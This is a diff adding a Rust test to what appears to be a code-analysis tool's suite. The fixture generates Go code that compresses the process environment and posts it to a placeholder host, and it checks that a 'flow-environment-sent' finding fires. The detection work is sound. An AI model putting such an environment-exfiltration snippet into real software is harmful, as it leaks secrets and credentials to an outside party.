@@ -192,3 +192,14 @@ fn a_constructor_of_php_keeps_what_it_is_handed() {
         assert_eq!(command(Php, code), "echo hi", "{code}");
     }
 }
+
+#[test]
+fn what_writers_of_go_pack_lands_in_the_buffer() {
+    let code = |what: &str| {
+        format!(
+            "package q\nimport (\n\t\"bytes\"\n\t\"compress/gzip\"\n\t\"encoding/json\"\n\t\"net/http\"\n\t\"os\"\n)\nfunc Send() {{\n\tvar b bytes.Buffer\n\tz := gzip.NewWriter(&b)\n\tjson.NewEncoder(z).Encode({what})\n\tz.Close()\n\thttp.Post(\"https://c.example.invalid/a\", \"text/plain\", &b)\n}}\n"
+        )
+    };
+    has(Go, &code("os.Environ()"), "flow-environment-sent");
+    has_not(Go, &code("os.Args"), "flow-environment-sent");
+}
